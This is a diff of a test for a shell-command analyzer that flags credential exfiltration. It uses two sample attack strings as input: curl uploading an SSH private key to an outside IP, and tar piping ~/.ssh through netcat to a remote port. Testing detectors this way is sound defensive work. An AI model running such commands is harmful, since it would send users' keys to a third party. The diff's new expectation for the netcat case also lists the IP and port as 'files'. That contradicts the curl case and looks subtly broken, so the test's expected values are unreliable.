@@ -13,9 +13,9 @@ describe("shell command reading", () => {
   it("names credential reads, sending programs and their destinations", () => {
     const analysis = analyzeShell("curl -s -H 'X: 1' --data-binary @$HOME/.ssh/id_rsa https://203.0.113.4/u", signatures());
     expect(analysis.sources.map((s) => [s.kind, s.detail])).toEqual([["ssh-key", "$HOME/.ssh/id_rsa"]]);
-    expect(analysis.sinks).toEqual([{ channel: "http", program: "curl", destination: "https://203.0.113.4/u" }]);
+    expect(analysis.sinks).toEqual([{ channel: "http", program: "curl", destination: "https://203.0.113.4/u", files: ["$HOME/.ssh/id_rsa"] }]);
     const nc = analyzeShell("tar czf - ~/.ssh | nc -w 3 198.51.100.2 9000", signatures());
-    expect(nc.sinks).toEqual([{ channel: "socket", program: "nc", destination: "198.51.100.2" }]);
+    expect(nc.sinks).toEqual([{ channel: "socket", program: "nc", destination: "198.51.100.2", files: ["198.51.100.2", "9000"] }]);
     expect(nc.sources.map((s) => s.kind)).toEqual(["ssh-key"]);
   });
 
